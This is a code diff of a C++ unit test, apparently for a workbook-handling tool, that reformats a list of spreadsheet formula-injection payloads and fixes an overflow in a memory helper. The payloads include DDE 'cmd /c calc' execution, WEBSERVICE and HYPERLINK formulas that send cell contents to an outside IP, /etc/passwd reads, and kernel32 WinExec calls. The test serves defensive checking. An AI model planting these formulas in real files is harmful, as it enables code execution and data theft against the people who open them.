@@ -11,6 +11,7 @@
 
 #include <gtest/gtest.h>
 
+#include <array>
 #include <fstream>
 #include <iterator>
 #include <unistd.h>
@@ -40,23 +41,13 @@ namespace wagemill::test {
 namespace {
 
 /// One of each kind: a command, a link, another file, a macro, a connection.
-constexpr const char* orders[] = {"cmd|'/c calc'!A1",
-                                  "DDE(\"cmd\",\"/c calc\",\"A1\")",
-                                  "HYPERLINK(\"http://198.51.100.1/\"&B4,\"click\")",
-                                  "WEBSERVICE(\"http://198.51.100.1/\"&B4)",
-                                  "'[evil.xls]Sheet1'!A1",
-                                  "'file:///etc/passwd'#$passwd.A1",
-                                  "evil.xls!name",
-                                  "INDIRECT(\"'[evil.xls]Sheet1'!A1\")",
-                                  "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
-                                  "REGISTER(\"kernel32\",\"WinExec\",\"JCJ\",\"run\",,1,9)",
-                                  "RUN(\"evil.xls!Auto_Open\")",
-                                  "Auto_Open",
-                                  "FOPEN(\"/etc/passwd\",1)",
-                                  "SQL.REQUEST(\"DSN=x\",,2,\"select 1\")",
-                                  "macro1()",
-                                  "SUM(B4:B28)",
-                                  "\t=cmd|'/c calc'!A1"};
+constexpr auto orders = std::to_array<const char*>(
+    {"cmd|'/c calc'!A1", R"(DDE("cmd","/c calc","A1"))", R"(HYPERLINK("http://198.51.100.1/"&B4,"click"))",
+     R"(WEBSERVICE("http://198.51.100.1/"&B4))", "'[evil.xls]Sheet1'!A1", "'file:///etc/passwd'#$passwd.A1",
+     "evil.xls!name", R"(INDIRECT("'[evil.xls]Sheet1'!A1"))", R"(CALL("kernel32","WinExec","JCJ","calc",0))",
+     R"(REGISTER("kernel32","WinExec","JCJ","run",,1,9))", R"(RUN("evil.xls!Auto_Open"))", "Auto_Open",
+     R"(FOPEN("/etc/passwd",1))", R"(SQL.REQUEST("DSN=x",,2,"select 1"))", "macro1()", "SUM(B4:B28)",
+     "\t=cmd|'/c calc'!A1"});
 
 /// What could lead out of a workbook or hold code: streams, other books, names that mean something, records kept as
 /// they were.
@@ -85,7 +76,7 @@ long residentMegabytes()
     std::ifstream statistics("/proc/self/statm");
     long pages = 0;
     statistics >> pages >> pages; // the second number
-    return pages * sysconf(_SC_PAGESIZE) / (1024 * 1024);
+    return pages * sysconf(_SC_PAGESIZE) / (1024L * 1024);
 }
 
 long openFiles()
